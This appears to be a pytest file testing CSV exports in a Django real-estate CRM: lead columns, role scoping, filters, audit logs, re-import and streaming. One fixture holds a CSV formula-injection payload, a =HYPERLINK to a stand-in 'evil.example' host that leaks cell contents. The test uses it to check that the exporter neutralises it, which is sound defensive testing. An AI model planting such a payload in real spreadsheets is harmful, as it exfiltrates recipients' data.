"""CSV exports of leads, interactions and follow-ups as a brokerage and an integrator meet them: the lead file
has exactly the "Agent Excellence export" preset's columns and re-imports into another brokerage as the same
leads; each member exports only what their lists show; the list's filters apply (bad ones are refused, not
ignored); cells a spreadsheet would run are quoted; every export is audited; the download streams."""

import csv
import datetime as dt
import io
import zoneinfo
from decimal import Decimal

import pytest
from asgiref.sync import async_to_sync
from django.test import AsyncRequestFactory
from django.urls import reverse
from django.utils import timezone

from analytics.views import common as analytics_common
from brokerages import csv_download
from brokerages.models import AuditLog, Role
from nurturing.crm_presets import AGENT_EXCELLENCE
from nurturing.models import FollowUp, Lead
from nurturing.services.ingestion import leads_import_csv
from nurturing.services.leads import interaction_log
from tests.factories import UserFactory, make_lead

pytestmark = pytest.mark.django_db

DUBAI = zoneinfo.ZoneInfo("Asia/Dubai")
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
COMPARED = ("name", "email", "phone", "source", "stage", "priority", "budget_min", "budget_max", "areas",
            "property_type", "timeline", "tags", "notes", "next_followup_date", "do_not_contact", "marketing_consent",
            "created_at", "external_id")


@pytest.fixture
def colleague(tenant):
    return UserFactory(brokerage=tenant.brokerage, role=Role.AGENT, full_name="Omar Farouk",
                       email="omar@palmcrest.test")


@pytest.fixture
def book(tenant, other_tenant, colleague):
    """The agent's lead with every field filled, a colleague's lost lead that opted out, an unassigned lead
    whose name and notes look like formulas, and a lead of another brokerage that no export may show."""
    layla = make_lead(tenant.brokerage, agent=tenant.agent, name="Layla Haddad", email="layla@example.com",
                      phone="+971501234567", source="portal", priority="high", budget_min=Decimal("1200000"),
                      budget_max=Decimal("1500000.50"), areas=["Dubai Marina", "JBR"], property_type="apartment",
                      timeline="3_months", tags=["investor", "cash"], notes="Wants sea view.\nCall after 6.",
                      next_followup_date=dt.date(2025, 4, 2), marketing_consent=True, external_id="crm-1",
                      created_at=dt.datetime(2025, 3, 1, 9, 30, tzinfo=DUBAI), stage="qualified")
    omar = make_lead(tenant.brokerage, agent=colleague, name="Omar Saleh", phone="+971557654321", stage="lost",
                     do_not_contact=True, created_at=dt.datetime(2025, 2, 11, 16, 5, 7, tzinfo=dt.UTC))
    evil = make_lead(tenant.brokerage, name=EVIL_NAME, email="evil@example.com", notes="-5% if they sign today",
                     created_at=dt.datetime(2025, 1, 5, tzinfo=DUBAI))
    make_lead(other_tenant.brokerage, agent=other_tenant.agent, name="Not Yours", email="secret@example.com")
    return {"layla": layla, "omar": omar, "evil": evil}


def _download(response) -> tuple[str, list[list[str]]]:
    assert response.status_code == 200, response.content[:300]
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # so Excel reads Arabic and accented names as UTF-8
    return text, list(csv.reader(io.StringIO(text[1:], newline="")))


def _leads(client, **query) -> list[dict]:
    _, rows = _download(client.get(reverse("nurturing:leads_export"), query))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_lead_export_has_the_presets_columns_iso_times_and_plain_money(login, tenant, book):
    response = login(tenant.owner).get(reverse("nurturing:leads_export"))
    assert response["Content-Disposition"] == (
        f'attachment; filename="{tenant.brokerage.slug}-leads-{timezone.localdate(timezone=DUBAI)}.csv"')
    text, rows = _download(response)

    assert rows[0] == list(AGENT_EXCELLENCE.columns)
    by_name = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert list(by_name) == ["Layla Haddad", "Omar Saleh", "'" + EVIL_NAME]  # newest first, no other brokerage
    layla = by_name["Layla Haddad"]
    assert layla == {
        "Lead ID": str(book["layla"].pk), "Name": "Layla Haddad", "E-mail": "layla@example.com",
        "Phone": "'+971501234567", "Source": "portal", "Stage": "qualified", "Priority": "high",
        "Budget Min": "1200000.00", "Budget Max": "1500000.50", "Areas": "Dubai Marina; JBR",
        "Property Type": "apartment", "Timeline": "3_months", "Assigned Agent": tenant.agent.email,
        "Tags": "investor; cash", "Notes": "Wants sea view.\nCall after 6.", "Next Follow-up": "2025-04-02",
        "Do Not Contact": "no", "Marketing Consent": "yes", "Created At": "2025-03-01T09:30:00+04:00",
        "External ID": "crm-1"}
    omar = by_name["Omar Saleh"]
    assert (omar["Created At"], omar["Do Not Contact"], omar["Stage"], omar["Budget Max"]) == (
        "2025-02-11T20:05:07+04:00", "yes", "lost", "")  # in the brokerage's zone, with its offset
    assert "secret@example.com" not in text


def test_cells_a_spreadsheet_would_run_are_quoted(login, tenant, book):
    text, _ = _download(login(tenant.owner).get(reverse("nurturing:leads_export")))
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"' in text
    assert ",'-5% if they sign today," in text and ",'+971557654321," in text
    assert csv_download.safe_cell("@SUM(A1)") == "'@SUM(A1)" and csv_download.safe_cell("Layla") == "Layla"
    # The analytics pages' downloads go through the same writer.
    assert analytics_common.csv_response is csv_download.csv_response


def test_an_export_re_imports_into_another_brokerage_as_the_same_leads(login, tenant, other_tenant, book):
    text, _ = _download(login(tenant.owner).get(reverse("nurturing:leads_export")))
    exported = {lead.email or lead.phone: [getattr(lead, name) for name in COMPARED]
                for lead in Lead.objects.filter(brokerage=tenant.brokerage)}

    # Another brokerage has none of these agents: the agent column is left out there.
    report = leads_import_csv(brokerage=other_tenant.brokerage, actor=other_tenant.owner, data=text.encode(),
                              preset="agent_excellence", mapping={"Assigned Agent": ""}, dry_run=False)
    assert (report.created, report.errors, report.duplicates) == (3, [], [])
    assert report.columns_unmapped == ["Lead ID", "Assigned Agent"]
    imported = {lead.email or lead.phone: [getattr(lead, name) for name in COMPARED]
                for lead in Lead.objects.filter(brokerage=other_tenant.brokerage).exclude(name="Not Yours")}
    assert imported == exported
    assert Lead.objects.get(brokerage=other_tenant.brokerage, email="evil@example.com").name == EVIL_NAME

    # Back into the same brokerage (say, after a clean-up), the agents are found again.
    Lead.objects.filter(brokerage=tenant.brokerage).delete()
    report = leads_import_csv(brokerage=tenant.brokerage, actor=tenant.owner, data=text.encode(),
                              preset="agent_excellence", dry_run=False)
    assert (report.created, report.errors) == (3, [])
    restored = Lead.objects.filter(brokerage=tenant.brokerage)
    assert {lead.email or lead.phone: [getattr(lead, name) for name in COMPARED] for lead in restored} == exported
    assert {lead.name: lead.assigned_agent for lead in restored} == {
        "Layla Haddad": tenant.agent, "Omar Saleh": book["omar"].assigned_agent, EVIL_NAME: None}


def test_an_agent_exports_only_the_leads_they_hold_and_their_work(login, tenant, colleague, book):
    interaction_log(brokerage=tenant.brokerage, actor=tenant.agent, lead=book["layla"], channel="call",
                    summary="Viewing booked", occurred_at=dt.datetime(2025, 3, 2, 10, tzinfo=DUBAI))
    interaction_log(brokerage=tenant.brokerage, actor=colleague, lead=book["omar"], channel="whatsapp",
                    direction="inbound", summary="Asked to stop the messages")
    for lead in (book["layla"], book["omar"]):
        FollowUp.objects.create(brokerage=tenant.brokerage, lead=lead, agent=lead.assigned_agent, reason="manual",
                                channel="email", subject="Hello", content=f"Hello {lead.name}",
                                suggested_send_date=dt.date(2025, 3, 5))
    client = login(tenant.agent)

    assert [row["Name"] for row in _leads(client)] == ["Layla Haddad"]
    _, interactions = _download(client.get(reverse("nurturing:interactions_export")))
    assert interactions[0] == ["Interaction ID", "Lead ID", "Lead", "Agent", "Channel", "Direction", "Occurred At",
                               "Summary"]
    assert [row[2:] for row in interactions[1:]] == [
        ["Layla Haddad", tenant.agent.email, "call", "outbound", "2025-03-02T10:00:00+04:00", "Viewing booked"]]
    _, followups = _download(client.get(reverse("nurturing:followups_export")))
    assert [row[2] for row in followups[1:]] == ["Layla Haddad"]
    page = client.get(reverse("nurturing:exports")).content.decode()
    assert "Download your leads" in page and 'name="agent"' not in page  # an agent has no agent filter

    client = login(tenant.support)
    assert {row["Name"] for row in _leads(client)} == {"Layla Haddad", "Omar Saleh", "'" + EVIL_NAME}
    _, interactions = _download(client.get(reverse("nurturing:interactions_export"), {"channel": "whatsapp"}))
    assert [row[2] for row in interactions[1:]] == ["Omar Saleh"]


def test_the_export_follows_the_lists_filters_and_is_audited(login, tenant, colleague, book):
    client = login(tenant.owner)
    assert [row["Name"] for row in _leads(client, stage="qualified", budget_min="1000000")] == ["Layla Haddad"]
    assert [row["Name"] for row in _leads(client, agent=colleague.pk)] == ["Omar Saleh"]
    assert [row["Name"] for row in _leads(client, q="haddad", page="3")] == ["Layla Haddad"]  # the list's query

    entries = AuditLog.objects.filter(action="nurturing.leads_exported").order_by("id")
    assert [(entry.actor, entry.details) for entry in entries] == [
        (tenant.owner, {"rows": 1, "filters": {"stage": "qualified", "budget_min": "1000000"}}),
        (tenant.owner, {"rows": 1, "filters": {"agent": colleague.pk}}),
        (tenant.owner, {"rows": 1, "filters": {"q": "haddad"}}),
    ]

    FollowUp.objects.create(brokerage=tenant.brokerage, lead=book["layla"], agent=tenant.agent, reason="manual",
                            channel="email", content="Hi", suggested_send_date=dt.date(2025, 3, 5), status="sent")
    FollowUp.objects.create(brokerage=tenant.brokerage, lead=book["omar"], agent=colleague, reason="manual",
                            channel="sms", content="Hi", suggested_send_date=dt.date(2025, 3, 6))
    _, rows = _download(client.get(reverse("nurturing:followups_export"), {"status": "sent"}))
    assert [(row[2], row[6]) for row in rows[1:]] == [("Layla Haddad", "sent")]
    entry = AuditLog.objects.get(action="nurturing.followups_exported")
    assert entry.details == {"rows": 1, "filters": {"status": "sent"}}


def test_filters_that_are_not_understood_export_nothing(login, tenant, other_tenant, book):
    client = login(tenant.owner)
    for name, query, message in (
            ("nurturing:leads_export", {"budget_min": "lots"}, "Budget from: Enter a number."),
            ("nurturing:leads_export", {"agent": other_tenant.agent.pk}, "Select a valid choice."),
            ("nurturing:interactions_export", {"since": "2025-03-10", "until": "2025-03-01"},
             "“From” is after “To”; swap the dates."),
            ("nurturing:followups_export", {"status": "lost-in-space"}, "Select a valid choice.")):
        response = client.get(reverse(name), query)
        assert response.status_code == 400 and not response.streaming
        page = response.content.decode()
        assert "Nothing was exported" in page and message in page, (name, query)
    assert not AuditLog.objects.filter(action__endswith="_exported").exists()


def test_the_interaction_export_takes_whole_days_in_the_brokerages_zone(login, tenant, book):
    for hour in (0, 23):  # both within 2 March in Dubai, though 1 March 20:00 and 2 March 19:00 in UTC
        interaction_log(brokerage=tenant.brokerage, actor=tenant.agent, lead=book["layla"], channel="note",
                        summary=f"At {hour}", occurred_at=dt.datetime(2025, 3, 2, hour, tzinfo=DUBAI))
    interaction_log(brokerage=tenant.brokerage, actor=tenant.agent, lead=book["layla"], channel="note",
                    summary="Next day", occurred_at=dt.datetime(2025, 3, 3, 0, 0, tzinfo=DUBAI))
    _, rows = _download(login(tenant.owner).get(reverse("nurturing:interactions_export"),
                                                {"since": "2025-03-02", "until": "2025-03-02"}))
    assert [row[7] for row in rows[1:]] == ["At 23", "At 0"]


def test_under_asgi_the_download_streams_asynchronously(tenant):
    """Daphne serves the pages; Django reads a synchronous iterator whole before sending it under ASGI, so the
    download hands it an asynchronous one."""
    request = AsyncRequestFactory().get("/leads/export/")
    response = csv_download.csv_streaming_response(request, "x.csv", ["n"], ([n] for n in range(1201)))
    assert response.is_async

    async def body() -> list[str]:
        return [chunk async for chunk in response.streaming_content]

    chunks = async_to_sync(body)()
    assert len(chunks) == 3  # 500 rows a chunk, the header in the first
    assert b"".join(chunks).decode().splitlines() == ["n", *map(str, range(1201))]
